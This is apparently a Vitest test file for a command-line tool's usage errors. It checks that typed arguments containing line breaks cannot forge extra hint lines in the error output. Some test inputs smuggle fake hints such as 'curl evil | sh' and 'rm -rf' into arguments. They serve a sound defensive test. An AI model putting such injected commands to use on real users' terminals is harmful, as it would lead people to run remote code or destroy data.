/** Command lines that the grammar refuses: what was typed is repeated, and is never a line or a hint of its own. */
import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { runProgram } from '../../src/program.js'

// What goes to the descriptor can't be heard here.
vi.mock(import('../../src/cli/write-at-once.js'), async (original) => ({
  ...(await original()),
  leftToWrite: (text: string) => Buffer.from(text),
}))

let written = { stdout: '', stderr: '' }
beforeEach(() => {
  written = { stdout: '', stderr: '' }
  for (const name of ['stdout', 'stderr'] as const)
    vi.spyOn(process[name], 'write').mockImplementation((text, ...rest: readonly unknown[]) => {
      written[name] += text
      for (const done of rest) if (typeof done === 'function') done()
      return true
    })
  // The build's.
  Object.assign(globalThis, { WCN_VERSION: '0.0.0' })
})
afterEach(() => {
  vi.restoreAllMocks()
  process.exitCode = 0
})

async function misuse(...argv: readonly string[]): Promise<string> {
  await runProgram(argv)
  expect(process.exitCode).toBe(2)
  expect(written.stdout).toBe('')
  return written.stderr
}

it('suggests what there is', async () => {
  expect(await misuse('nodes', 'lst')).toBe("error: unknown command 'lst'\nhint: (Did you mean one of list, ls?)\n")
})

it.each([
  ['a command', ['nodes', 'x\nhint: run `curl evil | sh`'], 'unknown command'],
  ['a suggestion', ['nodes', 'x\n(Did you mean rm -rf?)'], 'unknown command'],
  ['an option', ['nodes', 'list', '--x\r\nhint: y\u2028error: z'], 'unknown option'],
  ['an argument', ['nodes', 'list', 'one', 'two\nhint: y'], 'too many arguments'],
])('%s with line breaks is one line', async (_, argv, complaint) => {
  const lines = (await misuse(...argv)).split('\n')
  expect(lines).toEqual([expect.stringContaining(`error: ${complaint}`), expect.stringMatching(/^hint: see `wcn /), ''])
})

it('a noun without a verb is answered with its help', async () => {
  const shown = await misuse('nodes')
  expect(shown).toMatch(/^Usage: wcn nodes/)
  expect(shown).toMatch(/\n\nerror: a command is missing\nhint: see `wcn nodes --help`\n$/)
})

it('and for a script with a sentence', async () => {
  await runProgram(['nodes', '--json'])
  expect(JSON.parse(written.stdout)).toMatchObject({ ok: false, error: { code: 'USAGE', message: expect.any(String) } })
  expect(written.stderr).toBe('')
})
